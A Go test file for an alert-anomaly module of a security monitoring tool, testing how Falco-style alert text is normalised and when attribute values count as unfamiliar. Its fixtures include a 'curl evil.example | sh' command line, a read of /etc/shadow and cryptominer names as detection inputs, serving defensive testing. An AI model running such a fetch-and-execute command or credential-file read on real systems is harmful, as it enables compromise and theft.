package activity

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/tocsin-dev/tocsin/api/v1alpha1"
)

func TestShape(t *testing.T) {
	for text, want := range map[string]string{
		"":                                      "",
		"sh -c backup":                          "sh -c backup",
		"pid 7 of 42":                           "pid \x02 of \x02",
		"pid 4711":                              "pid \x01",
		"python3 run2":                          "python\x02 run\x02",
		"web-79fc758899-x7k2p":                  "web-\x01-\x01",
		"sha 3f2a9c":                            "sha \x01",
		"to 10.0.0.1:443":                       "to private:443",
		"to 192.168.7.9:51234":                  "to private",
		"to 127.0.0.1":                          "to private",
		"to 203.0.113.7:443 now":                "to 203.0.113.7:443 now",
		"to 203.0.113.7:4444":                   "to 203.0.113.7:4444",
		"to 203.0.113.7:51234":                  "to 203.0.113.7",
		"from 10.0.0.1:51234 to 203.0.113.7:22": "from private to 203.0.113.7:22",
		"to 012.34.56.78":                       "to 012.34.56.78",
		"to 0203.0.113.7":                       "to \x02203.0.113.7",
		"to 999.0.0.1":                          "to 999.0.0.1",
		"grün 7":                                "grün \x02",
	} {
		if got := shape(text); got != want {
			t.Errorf("%q has shape %q, want %q", text, got, want)
		}
	}
	one, other := shape(strings.Repeat("ä", 500)), shape(strings.Repeat("ä", 501))
	if len(one) > maxShape || one == other || !utf8.ValidString(one) {
		t.Errorf("%d bytes: %q", len(one), one)
	}
}

func TestDetails(t *testing.T) {
	spec := v1alpha1.AlertSpec{
		Title: "alice read Secret db-79fc758899-mgj2w in shop",
		Attributes: map[string]string{
			"name": "db-79fc758899-mgj2w", "namespace": "shop", "userAgent": "kubectl/v1.30.2 (linux/amd64)", "proc.cmdline": "sh -c 'kill 4711'",
			"output": "all of it", "requestURI": "/api/v1", "k8s.pod.name": "web-0", "auditID": "a-1",
		},
	}
	var got []string
	for _, d := range details(spec) {
		got = append(got, d.name+"="+d.shape)
	}
	want := []string{"title=alice read Secret \x01 in \x01", "name=db", "namespace=shop", "proc.cmdline=sh -c 'kill \x01'"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("details (-want +got):\n%s", diff)
	}
}

// scribbles is a firing of the sensor about a pod of shop/web, with other words each time.
func scribbles(i int, more map[string]string) v1alpha1.AlertSpec {
	attributes := map[string]string{
		"proc.cmdline": "sh -c backup", "fd.name": fmt.Sprintf("/data/%s", strings.Repeat("x", i+1)), "fd.sip": fmt.Sprintf("10.0.0.%d", i%200),
	}
	maps.Copy(attributes, more)
	spec := v1alpha1.AlertSpec{
		Source: "falco", Rule: "shell", Title: fmt.Sprintf("Shell with pid %d", 1000+i), Attributes: attributes,
		Entities: []v1alpha1.Entity{
			{Type: v1alpha1.EntityPod, Value: "shop/web-79fc758899-mgj2w", Role: v1alpha1.RoleActor},
			{Type: v1alpha1.EntityContainerImage, Value: fmt.Sprintf("ghcr.io/shop/web:%d", i)},
		},
	}
	return spec
}

// rememberScribbles in so many hours, two apart, up to a moment.
func rememberScribbles(m *Memory, count int, until time.Time, more map[string]string) {
	m.Reached("EVENTS-1", 1)
	for i := range count {
		spec := scribbles(i, more)
		spec.FirstSeen.Time = until.Add(-time.Duration(2*(count-i)) * time.Hour)
		m.RecordFiring("soc", spec)
	}
}

func TestUnfamiliar(t *testing.T) {
	const settled = 25 * time.Hour
	tests := map[string]struct {
		// remember is told beside forty firings that are settled.
		remember func(*Memory)
		edit     func(*v1alpha1.AlertSpec)
		want     []Unfamiliar
	}{
		"as ever": {},
		"a detail that never varied": {
			edit: func(s *v1alpha1.AlertSpec) { s.Attributes["proc.cmdline"] = "sh -c 'curl evil.example | sh'" },
			want: []Unfamiliar{{"proc.cmdline", "sh -c 'curl evil.example | sh'"}},
		},
		"a detail that always varied":   {edit: func(s *v1alpha1.AlertSpec) { s.Attributes["fd.name"] = "/etc/shadow" }},
		"a detail that was never there": {edit: func(s *v1alpha1.AlertSpec) { s.Attributes["new"] = "x" }},
		"a detail that is gone":         {edit: func(s *v1alpha1.AlertSpec) { delete(s.Attributes, "proc.cmdline") }},
		"another private address":       {edit: func(s *v1alpha1.AlertSpec) { s.Attributes["fd.sip"] = "10.9.9.9" }},
		"an address outside":            {edit: func(s *v1alpha1.AlertSpec) { s.Attributes["fd.sip"] = "203.0.113.7" }, want: []Unfamiliar{{"fd.sip", "203.0.113.7"}}},
		"another title":                 {edit: func(s *v1alpha1.AlertSpec) { s.Title = "Miner" }, want: []Unfamiliar{{"title", "Miner"}}},
		"two of them, by name":          {edit: func(s *v1alpha1.AlertSpec) { s.Title, s.Attributes["fd.sip"] = "Miner", "8.8.8.8" }, want: []Unfamiliar{{"title", "Miner"}, {"fd.sip", "8.8.8.8"}}},
		"what an intruder did since": {remember: func(m *Memory) {
			rememberScribbles(m, 3, noon.Add(-time.Hour), map[string]string{"proc.cmdline": "miner"})
		}, edit: func(s *v1alpha1.AlertSpec) { s.Attributes["proc.cmdline"] = "miner" }, want: []Unfamiliar{{"proc.cmdline", "miner"}}},
		"what was there a day before": {remember: func(m *Memory) {
			rememberScribbles(m, 1, noon.Add(-settled), map[string]string{"proc.cmdline": "miner"})
		}, edit: func(s *v1alpha1.AlertSpec) { s.Attributes["proc.cmdline"] = "miner" }},
		"another workload of the image": {edit: func(s *v1alpha1.AlertSpec) { s.Entities[0].Value = "shop/web2-79fc758899-mgj2w"; s.Title = "Miner" }, want: []Unfamiliar{{"title", "Miner"}}},
		"another workload, another image": {edit: func(s *v1alpha1.AlertSpec) {
			s.Entities[0].Value, s.Entities[1].Value, s.Title = "shop/api-0", "ghcr.io/shop/api:1", "Miner"
		}},
		"the image in another namespace":   {edit: func(s *v1alpha1.AlertSpec) { s.Entities[0].Value, s.Title = "pay/web-79fc758899-mgj2w", "Miner" }, want: []Unfamiliar{{"title", "Miner"}}},
		"another image in the same place":  {edit: func(s *v1alpha1.AlertSpec) { s.Entities[1].Value, s.Title = "ghcr.io/shop/api", "Miner" }},
		"another rule about the same":      {edit: func(s *v1alpha1.AlertSpec) { s.Rule, s.Title = "miner", "Miner" }},
		"long values are shown shortened":  {edit: func(s *v1alpha1.AlertSpec) { s.Attributes["proc.cmdline"] = strings.Repeat("y", 300) }, want: []Unfamiliar{{"proc.cmdline", strings.Repeat("y", 239) + shape(strings.Repeat("y", 300))[239:]}}},
		"what is different each time":      {edit: func(s *v1alpha1.AlertSpec) { s.Attributes["output"], s.Attributes["uuid"] = "x", "y" }},
		"a number that is another":         {edit: func(s *v1alpha1.AlertSpec) { s.Title = "Shell with pid 77777" }},
		"a number that is no number there": {edit: func(s *v1alpha1.AlertSpec) { s.Title = "Shell with pid x" }, want: []Unfamiliar{{"title", "Shell with pid x"}}},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			m := New(DefaultLimits)
			rememberScribbles(m, 40, noon.Add(-settled), nil)
			if test.remember != nil {
				test.remember(m)
			}
			spec := scribbles(7, nil)
			spec.Attributes["fd.name"] = "/data/elsewhere"
			if test.edit != nil {
				test.edit(&spec)
			}
			if diff := cmp.Diff(test.want, m.Unfamiliar("soc", firingOf(spec), spec, noon).New); diff != "" {
				t.Errorf("unfamiliar (-want +got):\n%s", diff)
			}
			if got := m.Unfamiliar("other", firingOf(spec), spec, noon); got.New != nil {
				t.Errorf("another tenant knows %v", got)
			}
		})
	}
}

// TestApart: an address is told once, and what ran is told whatever else names it.
func TestApart(t *testing.T) {
	connection := Unfamiliar{"fd.name", "10.0.0.9:40000->203.0.113.7:443"}
	tests := map[string]struct{ found, want []Unfamiliar }{
		"the address of a connection": {[]Unfamiliar{connection, {"fd.sip", "203.0.113.7"}}, []Unfamiliar{connection}},
		"another address":             {[]Unfamiliar{connection, {"fd.sip", "203.0.113.70"}}, []Unfamiliar{connection, {"fd.sip", "203.0.113.70"}}},
		"an address alone, twice":     {[]Unfamiliar{{"a", "203.0.113.7"}, {"b", "203.0.113.7"}}, []Unfamiliar{{"a", "203.0.113.7"}, {"b", "203.0.113.7"}}},
		"a program within a command": {
			[]Unfamiliar{{"proc.cmdline", "/tmp/x -a"}, {"proc.exepath", "/tmp/x"}}, []Unfamiliar{{"proc.cmdline", "/tmp/x -a"}, {"proc.exepath", "/tmp/x"}},
		},
		"a command within a title": {
			[]Unfamiliar{{"proc.cmdline", "xmrig"}, {"title", "it is xmrig"}}, []Unfamiliar{{"proc.cmdline", "xmrig"}, {"title", "it is xmrig"}},
		},
		"nothing": {},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			if diff := cmp.Diff(test.want, apart(test.found)); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// TestUnfamiliarIsBounded: no alert makes a long list.
func TestUnfamiliarIsBounded(t *testing.T) {
	m := New(DefaultLimits)
	usual, strange := map[string]string{}, map[string]string{}
	for i := range 20 {
		usual[fmt.Sprintf("attribute-%c", 'a'+i)], strange[fmt.Sprintf("attribute-%c", 'a'+i)] = "x", "y"
	}
	rememberScribbles(m, 40, noon.Add(-25*time.Hour), usual)
	spec := scribbles(7, strange)
	if got := m.Unfamiliar("soc", firingOf(spec), spec, noon).New; len(got) != maxUnfamiliar {
		t.Errorf("%d: %v", len(got), got)
	}
}

// FuzzShape: whatever a text holds, its shape is short, and valid where the text is.
func FuzzShape(f *testing.F) {
	for _, seed := range []string{"", "sh -c 'kill 4711'", "to 203.0.113.7:51234", "999.999.999.999:99999999999999999999", "web-79fc758899-mgj2w", "\xff1.2.3.4", strings.Repeat("ä", 300)} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		got := shape(text)
		if len(got) > maxShape || utf8.ValidString(text) && !utf8.ValidString(got) {
			t.Errorf("%q has shape %q", text, got)
		}
		if !strings.ContainsAny(text, "0123456789") && len(text) <= maxShape && got != text {
			t.Errorf("%q has no number, and shape %q", text, got)
		}
		for _, d := range details(v1alpha1.AlertSpec{Title: text, Attributes: map[string]string{"name": text, "userAgent": text, text: text}}) {
			if len(d.key()) > maxName {
				t.Errorf("%d bytes of %s", len(d.key()), d.name)
			}
		}
	})
}

// FuzzUnfamiliar: a habit that is younger than a day tells nothing, and one that is older
// nothing about what it knows.
func FuzzUnfamiliar(f *testing.F) {
	f.Add("Shell", "proc.cmdline", "sh", "curl", uint8(3))
	f.Add("to 203.0.113.7", "name", "web-0", "", uint8(30))
	f.Fuzz(func(t *testing.T, title, attribute, value, other string, hours uint8) {
		alert := v1alpha1.AlertSpec{Source: "falco", Rule: "shell", Title: title, Attributes: map[string]string{attribute: value}}
		alert.Entities = scribbles(0, nil).Entities
		asked := firingOf(alert)
		young, old := New(DefaultLimits), New(DefaultLimits)
		young.Reached("EVENTS-1", 1)
		old.Reached("EVENTS-1", 1)
		for hour := range int(hours % 24) {
			alert.FirstSeen.Time = noon.Add(-time.Duration(hour) * time.Hour)
			young.RecordFiring("soc", alert)
			alert.FirstSeen.Time = noon.Add(-time.Duration(hour+25) * time.Hour)
			old.RecordFiring("soc", alert)
		}
		if got := young.Unfamiliar("soc", asked, v1alpha1.AlertSpec{Title: other, Attributes: map[string]string{attribute: other}}, noon).New; got != nil && !slices.Contains(rare, attribute) {
			t.Errorf("a young habit tells of %v", got)
		}
		if got := old.Unfamiliar("soc", asked, alert, noon); got.New != nil || got.Near != nil {
			t.Errorf("what is as ever is unfamiliar: %v", got)
		}
	})
}
